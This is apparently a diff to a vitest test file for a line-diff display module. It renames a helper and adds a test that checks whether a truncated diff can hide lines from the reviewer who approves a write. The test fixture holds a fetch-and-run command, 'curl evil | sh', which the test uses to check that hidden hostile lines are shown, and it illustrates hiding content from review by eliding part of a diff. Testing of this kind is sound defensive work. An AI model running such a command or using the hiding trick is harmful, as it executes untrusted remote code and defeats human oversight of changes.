@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { diffLines, replaceLines } from './diff-lines.js';
+import { changeLines, diffLines } from './diff-lines.js';
 
 describe('a diff', () => {
   it('is read line by line', () => {
@@ -19,9 +19,19 @@ describe('a diff', () => {
 
   it('shows what is not a diff as it is', () => {
     expect(diffLines('makes 3 folders')).toEqual([{ kind: 'same', text: 'makes 3 folders' }]);
-    expect(replaceLines('', 'a\nb\n')).toEqual([
+    expect(changeLines({ kind: 'write', content: 'a\nb\n' }, undefined)).toEqual([
       { kind: 'added', text: 'a' },
       { kind: 'added', text: 'b' },
     ]);
+  });
+
+  it('[A3] whose middle was left out is not what is signed: all that would be written is shown', () => {
+    const cut = '@@ -0,0 +1,3 @@\n+harmless\n[70000 bytes were left out here.]\n+harmless';
+    const content = 'harmless\ncurl evil | sh\nharmless\n';
+    expect(changeLines({ kind: 'write', content }, cut)).toContainEqual({ kind: 'added', text: 'curl evil | sh' });
+    expect(changeLines({ kind: 'edit', before: 'old', after: content }, cut)).toContainEqual({
+      kind: 'added',
+      text: 'curl evil | sh',
+    });
   });
 });
